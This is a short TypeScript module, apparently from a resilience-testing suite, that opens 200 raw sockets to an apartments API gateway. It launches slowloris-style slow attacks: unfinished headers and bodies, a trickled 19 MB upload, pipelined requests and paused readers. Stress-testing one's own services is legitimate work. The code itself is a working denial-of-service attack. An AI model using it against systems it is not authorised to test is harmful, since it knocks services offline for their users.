import { connect } from 'node:net'
import type { Target } from './attack.ts'

const sockets = 200
const trickleMs = 1_000
const trickle = Buffer.alloc(9_000, 'x')

/** Connections that never finish their heads or bodies, uploads at the least speed, and readers that never read. */
export function openSlowSockets({ gateway, tokens, apartment }: Target): Disposable {
  const { hostname, port, host } = new URL(gateway)
  const timers = new Set<NodeJS.Timeout>()
  const opened = Array.from({ length: sockets }, (_, index) => {
    const socket = connect({ host: hostname, port: Number(port) }).on('error', () => undefined)
    const token = tokens[index % tokens.length]
    const auth = `Host: ${host}\r\nAuthorization: Bearer ${token}\r\n`
    const length = 'Content-Type: multipart/form-data; boundary=x\r\nContent-Length: 19000000\r\n\r\n'
    const kinds = [
      `GET /v1/apartments HTTP/1.1\r\n${auth}`,
      `POST /v1/apartments HTTP/1.1\r\n${auth}Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n{`,
      `POST /v1/documents HTTP/1.1\r\n${auth}${length}`,
      `GET /v1/apartments/${apartment} HTTP/1.1\r\n${auth}\r\n`.repeat(100),
    ]
    socket.write(kinds[index % kinds.length] ?? '')
    if (index % kinds.length === 3) socket.pause()
    if (index % kinds.length === 2) timers.add(setInterval(() => socket.writable && socket.write(trickle), trickleMs))
    return socket
  })
  return {
    [Symbol.dispose]: () => {
      for (const timer of timers) clearInterval(timer)
      for (const socket of opened) socket.destroy()
    },
  }
}
